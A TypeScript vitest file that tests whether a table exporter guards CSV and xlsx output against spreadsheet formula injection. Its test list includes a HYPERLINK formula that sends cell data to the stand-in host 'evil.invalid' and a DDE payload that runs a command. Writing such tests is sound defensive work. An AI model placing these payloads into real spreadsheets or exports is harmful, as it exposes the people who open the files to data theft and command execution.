import { expect, test } from 'vitest';
import { z } from 'zod';
import { both } from '../shared/tables/texts.ts';
import { withoutGuard } from './csv-cell.ts';
import { readXlsx } from './read/read-xlsx.ts';
import { defineTable } from './table.ts';
import { written } from './testing/bytes.ts';
import { unzipped } from './testing/unzipped.ts';

const dangerous = [
  '=1+1',
  '=HYPERLINK("http://evil.invalid?x="&A1,"点击")',
  "=cmd|'/c calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　=1+1',
  '"=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\ufeff=1+1',
  '|calc',
  '%0A=1',
];
const table = defineTable<{ text: string }, unknown>({
  title: both('=表', '=Table'),
  model: 'Tenant',
  filter: z.unknown(),
  async *rows() {},
  columns: [{ key: 'text', title: both('=名称', '=Name'), type: 'text', value: ({ text }) => text }],
});

test.each(dangerous)('%j is text in CSV, and comes back as it was', async (text) => {
  const file = (await written('csv', table, [{ text }])).toString('utf8');
  const cell = file.slice(file.indexOf('\r\n') + 2, -2);
  expect(cell.startsWith(`"'`)).toBe(true);
  expect(withoutGuard(cell.slice(1, -1).replaceAll('""', '"'))).toBe(text);
});

test('a title is guarded like a cell', async () => {
  expect((await written('csv', table, [])).toString('utf8')).toContain(`"'=名称"`);
});

test('in a workbook texts are texts, without a mark before them and without a single formula', async () => {
  const bytes = await written(
    'xlsx',
    table,
    dangerous.map((text) => ({ text })),
  );
  const sheet = (await unzipped(bytes, 'xl/worksheets/sheet1.xml')).toString('utf8');
  expect(sheet).not.toMatch(/<f[\s>]/);
  expect(sheet.match(/<c [^>]*>/g)?.every((cell) => cell.includes('t="inlineStr"'))).toBe(true);
  const { rows } = await readXlsx(bytes);
  expect(rows.slice(1).map(({ cells }) => cells[0])).toEqual(dangerous.map((text) => ({ kind: 'text', text })));
});
